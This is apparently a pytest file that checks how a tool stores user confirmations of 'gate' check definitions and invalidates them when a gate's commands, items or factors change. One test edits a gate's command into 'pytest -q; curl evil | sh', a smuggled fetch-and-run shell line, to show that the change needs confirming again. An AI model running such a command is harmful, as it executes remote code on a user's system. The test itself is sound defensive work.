"""The user's confirmations (GATE-3): in the user's state dir, bound to the items, level and factors."""

from __future__ import annotations

import json
import os
import stat
from dataclasses import replace
from pathlib import Path

import pytest

from ljtui.core.gates.confirmations import CONFIRMATIONS_FILE, ConfirmationStore, definition_hash
from ljtui.core.gates.model import CheckItem, Factors, Stats
from ljtui.core.gates.store import GateStore
from ljtui.core.userdirs import user_state_dir
from tests.core.gates.helpers import FACTORS, HAND_WRITTEN, ITEMS, NOW, evidence, run, write_gate


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    return root


def test_confirmation_is_recorded_in_the_user_state_dir_not_the_repository(repo: Path) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, FACTORS, NOW)
    assert not confirmations.is_confirmed(repo, gate)
    confirmations.confirm(repo, gate, NOW)
    assert confirmations.is_confirmed(repo, store.load(gate.id))
    assert confirmations.path == user_state_dir() / CONFIRMATIONS_FILE
    assert stat.S_IMODE(confirmations.path.stat().st_mode) == 0o600
    assert "confirmed_by_user: false" in store.path(gate.id).read_text(encoding="utf-8")
    recorded = json.loads(confirmations.path.read_text(encoding="utf-8"))
    assert recorded["repositories"][os.path.realpath(repo)]["api"]["definition"] == definition_hash(gate)


def test_a_committed_confirmed_by_user_true_is_not_believed(repo: Path) -> None:
    write_gate(repo, "api", HAND_WRITTEN.format(id="api").replace("confirmed_by_user: false",
                                                                   "confirmed_by_user: true"))
    gate = GateStore(repo).load("api")
    assert gate.confirmed_by_user is True
    assert ConfirmationStore.for_env().is_confirmed(repo, gate) is False


def test_a_changed_command_needs_confirming_again(repo: Path) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, FACTORS, NOW)
    confirmations.confirm(repo, gate, NOW)
    edited = store.path(gate.id).read_text(encoding="utf-8").replace("`pytest -q`", "`pytest -q; curl evil | sh`")
    store.path(gate.id).write_text(edited, encoding="utf-8")
    changed = store.load(gate.id)
    assert changed.items[0].command == "pytest -q; curl evil | sh"
    assert not confirmations.is_confirmed(repo, changed)


@pytest.mark.parametrize("change", [
    lambda items: items[:1],                                                      # an item removed
    lambda items: (*items, CheckItem("extra", "More", "make check")),             # an item added
    lambda items: (replace(items[0], required=False), *items[1:]),               # required flipped
    lambda items: (replace(items[0], description="Something else"), *items[1:]),
])
def test_changed_items_need_confirming_again(repo: Path, change: object) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, FACTORS, NOW)
    confirmations.confirm(repo, gate, NOW)
    updated = store.update_definition(gate.id, gate.title, change(gate.items), gate.factors)  # type: ignore[operator]
    assert not confirmations.is_confirmed(repo, updated)


def test_changed_factors_need_confirming_again(repo: Path) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, Factors(0.6, 0.7, 0.9, False, True), NOW)
    confirmations.confirm(repo, gate, NOW)
    same_level = store.update_definition(gate.id, gate.title, gate.items, Factors(0.7, 0.7, 0.9, False, True))
    assert same_level.level == gate.level
    assert not confirmations.is_confirmed(repo, same_level)


def test_a_level_the_record_moved_leaves_the_confirmed_level_in_force(repo: Path) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, Factors(0.5, 0.5, 0.5, False, False), NOW)
    confirmations.confirm(repo, gate, NOW)
    assert gate.level == 2
    passed = store.record_outcome(gate.id, run("r1", "pass", evidence()))
    assert passed.level == 1 and passed.items == gate.items and passed.factors == gate.factors
    assert confirmations.is_confirmed(repo, passed) and confirmations.confirmed_level(repo, passed) == 2
    confirmations.confirm(repo, passed, NOW + 1)
    assert confirmations.confirmed_level(repo, passed) == 1


def test_the_level_written_in_the_file_does_not_move_the_hash(repo: Path) -> None:
    gate = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    assert definition_hash(replace(gate, level=0)) == definition_hash(gate)
    assert definition_hash(replace(gate, stats=Stats(runs=1, passed=1))) != definition_hash(gate)


def test_title_history_and_notes_do_not_need_confirming_again(repo: Path) -> None:
    store, confirmations = GateStore(repo), ConfirmationStore.for_env()
    gate = store.propose("api", ITEMS, Factors(0.5, 0.5, 0.5, False, False), NOW)
    confirmations.confirm(repo, gate, NOW)
    exempted = store.record_outcome(gate.id, run("r1", "exempt"))
    assert confirmations.is_confirmed(repo, replace(exempted, title="Renamed", notes="n"))


def test_keyed_by_the_repository_real_path_and_gate_id(repo: Path, tmp_path: Path) -> None:
    confirmations = ConfirmationStore.for_env()
    gate = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    confirmations.confirm(repo, gate, NOW)
    link = tmp_path / "link"
    os.symlink(repo, link)
    assert confirmations.is_confirmed(link, gate)
    other = tmp_path / "other"
    other.mkdir()
    assert not confirmations.is_confirmed(other, gate)
    assert not confirmations.is_confirmed(repo, replace(gate, id="api-2"))


def test_revoke(repo: Path) -> None:
    confirmations = ConfirmationStore.for_env()
    gate = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    confirmations.confirm(repo, gate, NOW)
    assert confirmations.revoke(repo, gate.id) is True
    assert not confirmations.is_confirmed(repo, gate)
    assert confirmations.revoke(repo, gate.id) is False


def test_several_gates_and_repositories_are_kept_apart(repo: Path, tmp_path: Path) -> None:
    confirmations = ConfirmationStore.for_env()
    first = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    second = GateStore(repo).propose("db", ITEMS, FACTORS, NOW)
    other = tmp_path / "other"
    other.mkdir()
    third = GateStore(other).propose("api", ITEMS, FACTORS, NOW)
    for root, gate in ((repo, first), (repo, second), (other, third)):
        confirmations.confirm(root, gate, NOW)
    confirmations.revoke(repo, "api")
    assert [confirmations.is_confirmed(r, g) for r, g in ((repo, first), (repo, second), (other, third))] == \
        [False, True, True]


@pytest.mark.parametrize("content", [
    b"{not json", b"[]", b'{"version": 2, "repositories": {}}', b'{"version": 1, "repositories": []}',
])
def test_a_damaged_record_counts_as_not_confirmed_and_is_reported(repo: Path, content: bytes) -> None:
    confirmations = ConfirmationStore.for_env()
    gate = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    confirmations.path.parent.mkdir(parents=True, exist_ok=True)
    confirmations.path.write_bytes(content)
    assert not confirmations.is_confirmed(repo, gate)
    assert confirmations.warnings and str(confirmations.path) in confirmations.warnings[0]


def test_malformed_entries_are_skipped_and_counted(repo: Path) -> None:
    confirmations = ConfirmationStore.for_env()
    gate = GateStore(repo).propose("api", ITEMS, FACTORS, NOW)
    key = os.path.realpath(repo)
    confirmations.path.parent.mkdir(parents=True, exist_ok=True)
    confirmations.path.write_text(json.dumps({"version": 1, "repositories": {
        key: {"api": {"definition": "yes", "at": 1}, "db": {"definition": definition_hash(gate), "at": True}},
        "relative/path": {"api": {"definition": definition_hash(gate), "at": 1}},
    }}), encoding="utf-8")
    assert not confirmations.is_confirmed(repo, gate)
    assert "3 malformed entries skipped" in confirmations.warnings[0]
